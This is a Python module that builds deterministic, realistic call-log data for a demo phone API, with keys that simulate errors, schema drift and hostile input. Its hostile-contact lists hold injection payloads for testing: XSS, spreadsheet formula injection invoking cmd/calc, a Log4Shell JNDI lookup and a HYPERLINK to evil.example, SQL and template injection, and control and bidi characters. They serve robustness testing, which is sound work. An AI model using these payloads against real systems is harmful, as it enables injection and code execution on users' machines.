"""Deterministic, realistic call history for the demo upstream.

Calls are generated per (key, UTC calendar day) from a `random.Random` seeded by a
SHA-256 of both, so every process and every request sees the same history for a key.
The window is the 120 days up to the clock's now, and a call becomes visible only once
the provider has "stored" it (`created_at <= now`), so the demo never looks stale and
new calls appear at the head as time passes, like a phone syncing its call log.
"""

from __future__ import annotations

import hashlib
import math
import random
import re
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from itertools import accumulate
from zoneinfo import ZoneInfo

WINDOW_DAYS = 120
KINDS = ("missed", "incoming", "outgoing")

DEMO_KEY_SUPPORT = "demo-support"
DEMO_KEY_SALES = "demo-sales"
DEMO_KEY_EMPTY = "demo-empty"
DEMO_KEY_INVALID = "demo-invalid"
DEMO_KEY_EXPIRED = "demo-expired"
DEMO_KEY_FAILING = "demo-failing"
DEMO_KEY_RATELIMITED = "demo-ratelimited"
DEMO_KEY_SLOW = "demo-slow"
DEMO_KEY_BROKEN = "demo-broken"
DEMO_KEY_TRUNCATED = "demo-truncated"
DEMO_KEY_HOSTILE = "demo-hostile"
DEMO_KEY_DRIFT = "demo-drift"

DEMO_KEYS: dict[str, str] = {
    DEMO_KEY_SUPPORT: "A busy support line: a few thousand realistic calls over 120 days.",
    DEMO_KEY_SALES: "Another realistic line with other callers (any demo-<name> key gets its own).",
    DEMO_KEY_EMPTY: "A valid line with no calls at all.",
    DEMO_KEY_INVALID: "Refused with 403 invalid_apikey, like any key not shaped demo-<a-z0-9->.",
    DEMO_KEY_EXPIRED: "Expired: incoming/outgoing 403 api_expired; missed still lists calls.",
    DEMO_KEY_FAILING: "Provider failure: 500 server_error with an SQLSTATE detail.",
    DEMO_KEY_RATELIMITED: "429 rate_limited with Retry-After: 30.",
    DEMO_KEY_SLOW: "Answers normally after a long pause (15 s by default): client timeouts.",
    DEMO_KEY_BROKEN: "502 with an HTML body, like a load balancer with a dead backend.",
    DEMO_KEY_TRUNCATED: "200 with a JSON body cut in half.",
    DEMO_KEY_HOSTILE: "Valid; hostile names and places (markup, controls, RTL, 5,000 chars).",
    DEMO_KEY_DRIFT: "Valid; schema drift: strings for numbers, missing/extra fields, nulls.",
}

# fullmatch, never `$`: `$` would also accept a trailing newline.
_KEY_RE = re.compile(r"demo-[a-z0-9-]{1,40}")


def is_demo_key(key: str) -> bool:
    """True for a key the demo upstream accepts (possibly to answer with an error)."""
    return bool(_KEY_RE.fullmatch(key)) and key != DEMO_KEY_INVALID


@dataclass(frozen=True, slots=True)
class DemoCall:
    """One call of the demo history; `name`/`location` None means unknown."""

    kind: str  # "missed" | "incoming" | "outgoing"
    number: str
    name: str | None
    at: datetime  # aware UTC, whole seconds
    duration_sec: int
    location: str | None
    created_at: datetime  # when the provider "stored" the row
    drift: str = ""  # demo-drift only: how this row's JSON deviates (see app.py)
    at_ms: int = field(init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "at_ms", int(self.at.timestamp()) * 1000)


@dataclass(frozen=True, slots=True)
class _Contact:
    number: str
    name: str | None
    city: str | None


# --- Name and place pools -------------------------------------------------------------

_FR_FIRST = (
    "Zoë", "François", "Amélie", "Hélène", "Jérôme", "Benoît", "Léa", "Chloé", "Noël",
    "Maëlle", "Anaïs", "Thibault", "Céline", "Geneviève", "Loïc", "Inès", "Élodie",
    "Sébastien", "Frédéric", "Aurélie", "Mathéo", "Clémence",
)  # fmt: skip
_FR_LAST = (
    "Dupont", "Lefèvre", "Lambert", "Dubois", "Martin", "Bernard", "Moreau", "Rousseau",
    "Fontaine", "Gérard", "Mercier", "Lemaître", "Collignon", "Delvaux", "Hénin", "Lejeune",
)  # fmt: skip
_NL_FIRST = (
    "Jan", "Pieter", "Sofie", "Lotte", "Wouter", "Bram", "Annelies", "Joris", "Eline",
    "Maarten", "Stijn", "Femke", "Sanne", "Daan", "Liesbeth", "Koen", "Nele", "Jeroen",
)  # fmt: skip
_NL_LAST = (
    "Peeters", "Janssens", "Maes", "Jacobs", "Mertens", "Willems", "Claes", "Goossens",
    "Wouters", "De Smet", "Van den Berg", "De Vries", "Bakker", "Visser", "Van Damme",
    "Vermeulen", "De Backer", "Van Acker",
)  # fmt: skip
_JP_FAMILY = ("山田", "佐藤", "鈴木", "高橋", "田中", "伊藤", "渡辺", "中村", "小林", "加藤")
_JP_GIVEN = ("太郎", "花子", "一郎", "美咲", "健", "さくら", "翔", "陽菜", "大輔", "由美")
_JP_ROMAJI = ("Yuki Tanaka", "Haruto Sato", "Aiko Suzuki", "Kenji Watanabe", "Mei Kobayashi")
_US_FIRST = ("Emily", "Michael", "Sarah", "David", "Jessica", "Chris", "Ashley", "Daniel")
_US_LAST = ("Carter", "O'Brien", "Nguyen", "Kim", "Alvarez", "Johnson", "Patel", "García")
_NICKNAMES = (
    "Plombier Martin 🔧", "Maman ❤️", "Papa", "Dr. Janssens (tandarts)", "Bakkerij De Kroon",
    "Pizzeria Napoli 🍕", "Garage Peeters", "ACME Corp — Accounts", "Taxi Bruxelles 🚕",
    "Boulangerie Lefèvre", "Hotel Okura 東京", "Crèche Les Lutins", "IT helpdesk 💻",
    "Kantoor Gent", "Fiscaliste — Mme Hénin", "Livraison 📦 DHL",
)  # fmt: skip

_BE_CITIES = ("Brussels", "Bruxelles", "Antwerpen", "Liège", "Gent", "Namur", "Leuven", "Brugge",
              "Charleroi", "Mons", "Hasselt")  # fmt: skip
_FR_CITIES = ("Paris", "Lyon", "Lille", "Marseille", "Bordeaux", "Nice")
_NL_CITIES = ("Amsterdam", "Rotterdam", "Utrecht", "Den Haag", "Eindhoven")
_JP_CITIES = ("東京", "大阪", "京都", "横浜")
_US_CITIES = ("San Francisco", "Oakland", "New York")

_BE_MOBILE_PREFIXES = ("470", "471", "472", "473", "474", "475", "476", "477", "478", "479",
                       "484", "485", "486", "487", "488", "489", "492", "493", "494", "495",
                       "496", "497", "498", "499")  # fmt: skip

# Hostile text a contact list can really hold; every entry is there to break something
# (HTML escaping, terminals, CSV exports, bidi rendering, layouts, databases).
_LONG_NAME = ("Wolfeschlegelsteinhausenbergerdorff" * 150)[:5000]
HOSTILE_NAMES: tuple[str | None, ...] = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "\"Double\" 'single' `back` quotes",
    "Tom &amp; Jerry &lt;b&gt;",
    'O\'Brien & "Sons" <b>Ltd</b>',
    "😀📞🔥 Party line 🎉",
    "👨‍👩‍👧‍👦 Family",
    "山田 太郎",
    "محمد عبد الله",
    "שלום עליכם",
    "Z̴̡a̷l̸g̵o̶ ̷t̴e̵x̶t̷",
    _LONG_NAME,
    "ctrl:" + "".join(map(chr, range(0x20))) + ":end",
    "Invoice\u202etxt.exe",
    "Zero\u200bwidth\u200djoiner",
    '=HYPERLINK("http://evil.example/","Click me")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} {% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n %(name)s",
    "javascript:alert(1)",
    "Robert'); DROP TABLE calls;--",
    None,
    "",
    "   ",
)
HOSTILE_LOCATIONS: tuple[str | None, ...] = (
    "<b>Brussels</b>",
    "<script>alert('geo')</script>",
    "=cmd|' /C calc'!A0",
    "東京",
    "القاهرة",
    "Liège\u202e",
    "Tab\tCity\nNewline",
    "🏙️ Metropolis",
    ("Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch " * 40)[:2000],
    "null",
    "",
    None,
)
# A few numbers the way broken phones and carriers really send them.
_HOSTILE_NUMBERS = ("", "-2", "+32 (0)470 12.34.56", "<b>+32470</b>", "=1+1")

# Weekday calls cluster in Brussels office hours; evenings and weekends are quiet.
# Local hours stay within 07:00-22:59, so every call of a UTC day lands on that UTC day.
_OFFICE_TZ = ZoneInfo("Europe/Brussels")
_WEEKDAY_HOURS = {7: 1, 8: 4, 9: 9, 10: 11, 11: 10, 12: 5, 13: 6, 14: 10, 15: 10, 16: 9,
                  17: 6, 18: 3, 19: 2, 20: 1.5, 21: 1, 22: 0.6}  # fmt: skip
_WEEKEND_HOURS = {9: 2, 10: 4, 11: 5, 12: 4, 13: 3, 14: 4, 15: 4, 16: 4, 17: 4, 18: 3, 19: 3,
                  20: 2, 21: 1.5, 22: 1}  # fmt: skip

_DRIFTS = (("strings", 0.12), ("missing", 0.10), ("extra", 0.10), ("null_name", 0.08),
           ("bad_duration", 0.03))  # fmt: skip


def _rng(*parts: str) -> random.Random:
    digest = hashlib.sha256("|".join(parts).encode("utf-8")).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def _digits(rng: random.Random, n: int) -> str:
    return "".join(str(rng.randrange(10)) for _ in range(n))


def _new_contact(rng: random.Random) -> _Contact:
    country = rng.choices(("BE", "FR", "NL", "JP", "US"), weights=(45, 20, 15, 10, 10))[0]
    if country == "BE":
        if rng.random() < 0.15:
            number, cities = "+322" + _digits(rng, 7), ("Brussels",)
        else:
            number, cities = "+32" + rng.choice(_BE_MOBILE_PREFIXES) + _digits(rng, 6), _BE_CITIES
        first, last = (_FR_FIRST, _FR_LAST) if rng.random() < 0.5 else (_NL_FIRST, _NL_LAST)
        person = f"{rng.choice(first)} {rng.choice(last)}"
    elif country == "FR":
        number, cities = "+33" + rng.choice("67") + _digits(rng, 8), _FR_CITIES
        person = f"{rng.choice(_FR_FIRST)} {rng.choice(_FR_LAST)}"
    elif country == "NL":
        number, cities = "+316" + str(rng.randint(1, 5)) + _digits(rng, 7), _NL_CITIES
        person = f"{rng.choice(_NL_FIRST)} {rng.choice(_NL_LAST)}"
    elif country == "JP":
        number, cities = "+81" + rng.choice(("90", "80", "70")) + _digits(rng, 8), _JP_CITIES
        if rng.random() < 0.8:
            person = f"{rng.choice(_JP_FAMILY)} {rng.choice(_JP_GIVEN)}"
        else:
            person = rng.choice(_JP_ROMAJI)
    else:
        # 555-01xx is the range reserved for fiction, so no real person gets demo calls.
        number, cities = "+1" + rng.choice(("415", "628")) + "55501" + _digits(rng, 2), _US_CITIES
        person = f"{rng.choice(_US_FIRST)} {rng.choice(_US_LAST)}"
    roll = rng.random()
    name: str | None
    if roll < 0.20:
        name = None
    elif roll < 0.25:
        name = ""
    elif roll < 0.35:
        name = rng.choice(_NICKNAMES)
    else:
        name = person
    return _Contact(number=number, name=name, city=rng.choice(cities))


@lru_cache(maxsize=128)
def _contacts(key: str) -> tuple[tuple[_Contact, ...], tuple[float, ...]]:
    """The key's address book, most frequent callers first, with cumulative weights."""
    rng = _rng(key, "contacts")
    contacts: list[_Contact] = []
    seen: set[str] = set()
    while len(contacts) < 150:
        contact = _new_contact(rng)
        if contact.number not in seen:
            seen.add(contact.number)
            contacts.append(contact)
    # People who call often are saved in the address book; unknown numbers call rarely.
    contacts.sort(key=lambda c: not c.name)
    if key == DEMO_KEY_HOSTILE:
        # Hostile entries go to the frequent callers so every page shows some.
        for i, name in enumerate(HOSTILE_NAMES):
            location = HOSTILE_LOCATIONS[i % len(HOSTILE_LOCATIONS)]
            number = _HOSTILE_NUMBERS[i] if i < len(_HOSTILE_NUMBERS) else contacts[i].number
            contacts[i] = _Contact(number=number, name=name, city=location)
    weights = [
        rng.uniform(6, 12) if i < 5 else rng.uniform(2, 4) if i < 30 else 1.0
        for i in range(len(contacts))
    ]
    if key == DEMO_KEY_HOSTILE:
        weights[: len(HOSTILE_NAMES)] = [8.0] * len(HOSTILE_NAMES)
    return tuple(contacts), tuple(accumulate(weights))


def _duration(rng: random.Random, kind: str) -> int:
    if kind == "missed":
        return 0
    roll = rng.random()
    if roll < 0.06:
        return rng.randint(0, 5)  # hung up at once, or voicemail picked up
    if roll < 0.07:
        return rng.randint(3600, 7200)
    return max(6, round(rng.lognormvariate(math.log(90), 1.0)))


@lru_cache(maxsize=4096)
def _day(key: str, day: date) -> tuple[DemoCall, ...]:
    """Every call of `key` on UTC day `day`, newest first, visible or not."""
    if key == DEMO_KEY_EMPTY:
        return ()
    rng = _rng(key, day.isoformat())
    contacts, cum_weights = _contacts(key)
    weekend = day.weekday() >= 5
    hour_table = _WEEKEND_HOURS if weekend else _WEEKDAY_HOURS
    hours, hour_cum = tuple(hour_table), tuple(accumulate(hour_table.values()))
    drift_names = tuple(name for name, _ in _DRIFTS)
    drift_cum = tuple(accumulate(p for _, p in _DRIFTS))
    raw = []
    for _ in range(rng.randint(4, 12) if weekend else rng.randint(18, 40)):
        contact = rng.choices(contacts, cum_weights=cum_weights)[0]
        hour = rng.choices(hours, cum_weights=hour_cum)[0]
        local = datetime(
            day.year,
            day.month,
            day.day,
            hour,
            rng.randrange(60),
            rng.randrange(60),
            tzinfo=_OFFICE_TZ,
        )
        quiet = weekend or hour >= 19
        kind = rng.choices(KINDS, weights=(30, 40, 30) if quiet else (18, 46, 36))[0]
        duration = _duration(rng, kind)
        location = None if rng.random() < 0.2 else contact.city
        delay = rng.randint(20, 540)
        drift = ""
        if key == DEMO_KEY_DRIFT:
            roll = rng.random()
            drift = next((n for n, c in zip(drift_names, drift_cum, strict=True) if roll < c), "")
        raw.append((local.astimezone(UTC), contact, kind, duration, location, delay, drift))
    # Oldest first, in exactly the reverse of the newest-first order the endpoints use, so
    # that `created_at` is non-decreasing along it and the visible calls are always a
    # prefix of history: new calls only ever appear at the head.
    raw.sort(key=lambda r: (r[0], _desc_text(r[1].number)))
    calls: list[DemoCall] = []
    stored = datetime.min.replace(tzinfo=UTC)
    for at, contact, kind, duration, location, delay, drift in raw:
        stored = max(stored, at + timedelta(seconds=duration + delay))
        calls.append(
            DemoCall(kind, contact.number, contact.name, at, duration, location, stored, drift)
        )
    calls.reverse()
    return tuple(calls)


def _desc_text(text: str) -> tuple[int, ...]:
    # Sorting by this ascending orders `text` descending.
    return (*(-ord(ch) for ch in text), 1)


@lru_cache(maxsize=12288)
def _day_of_kind(key: str, day: date, kind: str | None) -> tuple[DemoCall, ...]:
    calls = _day(key, day)
    return calls if kind is None else tuple(c for c in calls if c.kind == kind)


@lru_cache(maxsize=256)
def _settled(key: str, kind: str | None, today: date) -> tuple[DemoCall, ...]:
    """Days that are fully stored by now: all but today and yesterday (late syncs)."""
    out: list[DemoCall] = []
    for back in range(2, WINDOW_DAYS):
        out.extend(_day_of_kind(key, today - timedelta(days=back), kind))
    return tuple(out)


def visible_calls(key: str, kind: str | None, now: datetime) -> list[DemoCall]:
    """Calls of `kind` (None: all kinds) the provider holds at `now`, newest first.

    Ties on the call time are ordered by phone number, ascending.
    """
    now = now.astimezone(UTC)
    today = now.date()
    recent: list[DemoCall] = []
    for day in (today, today - timedelta(days=1)):
        recent.extend(c for c in _day_of_kind(key, day, kind) if c.created_at <= now)
    recent.extend(_settled(key, kind, today))
    return recent


def generate_calls(key: str, now: datetime) -> list[DemoCall]:
    """All calls of every kind visible for `key` at `now`, newest first."""
    return visible_calls(key, None, now)


def clear_caches() -> None:
    """Forget generated data (tests use it to prove determinism across processes)."""
    for cached in (_contacts, _day, _day_of_kind, _settled):
        cached.cache_clear()
